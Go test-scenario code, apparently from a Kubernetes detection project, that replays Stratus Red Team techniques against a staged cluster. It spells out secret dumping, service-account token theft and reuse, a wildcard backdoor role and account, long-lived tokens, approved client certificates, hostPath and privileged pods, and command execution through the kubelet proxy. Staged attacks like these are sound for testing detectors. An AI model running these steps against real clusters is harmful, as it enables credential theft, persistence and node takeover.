package play

import (
	"crypto/rand"
	"crypto/rsa"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/base64"
	"encoding/pem"
	"fmt"
	"strings"

	"github.com/lynceus-io/lynceus/test/scenarios/stage"
)

// attackerHome is where intruders of the outside sit.
const attackerHome = "203.0.113.66"

// Stratus plays the eight Kubernetes techniques of Stratus Red Team with the leaked certificate of an administrator.
func Stratus(s *stage.Stage) {
	c := Found(s)
	thief := c.Mira.At(s.Outside("mallory", attackerHome))

	s.Attack("T1552.007", "Credential Access: List Kubernetes secrets", "dumps the secrets of all namespaces").
		As(thief).Do(func(a *stage.Act) { a.Must("get", "secrets", "-A", "-o", "json") })

	api := s.Pod("payments", "app=api")
	var stolen string
	s.Attack("T1552.007", "Credential Access: Access container service account", "reads a service account's token by exec in "+api.String()).
		As(thief).Do(func(a *stage.Act) {
		stolen = a.Must("-n", api.Namespace, "exec", api.Name, "--", "cat", stage.TokenFile)
	})
	s.Attack("T1550.001", "Credential Access: Access container service account", "uses the stolen token from outside").
		As(s.Bearer(thief.In, stolen, api).By("mira.holm")).Do(func(a *stage.Act) {
		a.Kubectl("auth", "whoami")
		a.Kubectl("-n", "payments", "get", "pods,secrets")
	})

	s.Attack("T1098.006", "Persistence: Backdoor account", "makes a cluster role that may do everything, an account, and binds them").
		As(thief).Do(func(a *stage.Act) {
		a.Must("create", "clusterrole", "cluster-maintenance", "--verb=*", "--resource=*.*")
		a.Must("-n", "kube-system", "create", "serviceaccount", "cluster-maintenance")
		a.Must("create", "clusterrolebinding", "cluster-maintenance", "--clusterrole=cluster-maintenance", "--serviceaccount=kube-system:cluster-maintenance")
	})
	s.Attack("T1098", "Persistence: Backdoor account", "makes a long-lived token for it and reads it").
		As(thief).Do(func(a *stage.Act) {
		a.MustApply(longLivedToken("kube-system", "cluster-maintenance"), "create", "-f", "-")
		s.Sleep(settled)
		a.Must("-n", "kube-system", "get", "secret", "cluster-maintenance-token", "-o", "json")
	})

	s.Attack("T1649", "Persistence: Create client certificate", "has a client certificate signed and approves it").
		As(thief).Do(func(a *stage.Act) {
		csr, err := signingRequest("system:kube-controller-manager", "system:masters")
		if err != nil {
			csr = ""
		}
		a.Apply(certificateRequest("mallory-masters", csr), "create", "-f", "-") // refused: system:masters
		if csr, err = signingRequest("system:kube-controller-manager"); err == nil {
			a.MustApply(certificateRequest("mallory", csr), "create", "-f", "-")
		}
		a.Must("certificate", "approve", "mallory")
		a.Must("get", "csr", "mallory", "-o", "json")
	})
	s.Attack("T1098.001", "Persistence: Create token", "makes a long-lived token of a system account").
		As(thief).Do(func(a *stage.Act) {
		a.Must("-n", "kube-system", "create", "token", "clusterrole-aggregation-controller", "--duration=24h")
	})

	s.Attack("T1610", "Privilege Escalation: hostPath mount", "runs a pod that mounts the node's file system").
		As(thief).Do(func(a *stage.Act) { a.MustApply(hostPathPod("default", "node-check"), "create", "-f", "-") })
	s.PodNamed("default", "node-check")
	s.Attack("T1611", "Privilege Escalation: hostPath mount", "reads the node's files there").
		As(thief).Do(func(a *stage.Act) { a.Must("exec", "node-check", "--", "ls", "/host/etc") })
	s.Attack("T1610", "Privilege Escalation: Privileged container", "runs a privileged pod in the node's namespaces").
		As(thief).Do(func(a *stage.Act) { a.MustApply(privilegedPod("default", "node-shell"), "create", "-f", "-") })

	s.Attack("T1613", "Discovery: Access Kubelet API", "reads pods and configuration of the kubelet through nodes/proxy").
		As(thief).Do(func(a *stage.Act) {
		for _, path := range []string{"runningpods/", "pods", "configz"} {
			a.Must("get", "--raw", "/api/v1/nodes/node1/proxy/"+path)
		}
	})
	s.Attack("T1609", "Execution: Exec into container", "runs a command in "+api.String()+" through nodes/proxy").
		As(thief).Do(func(a *stage.Act) {
		a.Request("curl/8.5.0", "POST", fmt.Sprintf("/api/v1/nodes/node1/proxy/run/%s/%s/api?cmd=id", api.Namespace, api.Name), "")
	})
}

// longLivedToken is the secret in which the control plane writes a token without an end.
func longLivedToken(namespace, account string) string {
	return fmt.Sprintf(`apiVersion: v1
kind: Secret
metadata: {name: %[2]s-token, namespace: %[1]s, annotations: {kubernetes.io/service-account.name: %[2]s}}
type: kubernetes.io/service-account-token
`, namespace, account)
}

// signingRequest is a PEM certificate request for a user and groups.
func signingRequest(user string, groups ...string) (string, error) {
	key, err := rsa.GenerateKey(rand.Reader, 2048)
	if err != nil {
		return "", err
	}
	der, err := x509.CreateCertificateRequest(rand.Reader, &x509.CertificateRequest{Subject: pkix.Name{CommonName: user, Organization: groups}}, key)
	return string(pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE REQUEST", Bytes: der})), err
}

// certificateRequest is the object that asks for a client certificate.
func certificateRequest(name, csr string) string {
	return fmt.Sprintf(`apiVersion: certificates.k8s.io/v1
kind: CertificateSigningRequest
metadata: {name: %s}
spec: {request: %s, signerName: kubernetes.io/kube-apiserver-client, usages: [client auth]}
`, name, base64.StdEncoding.EncodeToString([]byte(csr)))
}

// pod is a pod that sleeps, with more lines of its spec and of its container, in YAML's flow style.
func pod(namespace, name, image, spec, container string) string {
	for _, s := range []*string{&spec, &container} {
		if *s != "" {
			*s = ", " + strings.TrimSpace(*s)
		}
	}
	return fmt.Sprintf(`apiVersion: v1
kind: Pod
metadata: {name: %[2]s, namespace: %[1]s, labels: {app: %[2]s}}
spec: {terminationGracePeriodSeconds: 0, containers: [{name: main, image: %[3]q, imagePullPolicy: IfNotPresent, command: [sleep, "3600"]%[5]s}]%[4]s}
`, namespace, name, image, spec, container)
}

func hostPathPod(namespace, name string) string {
	return pod(namespace, name, imageAlpine, `volumes: [{name: host, hostPath: {path: /}}]`, `volumeMounts: [{name: host, mountPath: /host}]`)
}

func privilegedPod(namespace, name string) string {
	return pod(namespace, name, imageAlpine, `hostPID: true, hostNetwork: true, hostIPC: true`, `securityContext: {privileged: true}`)
}
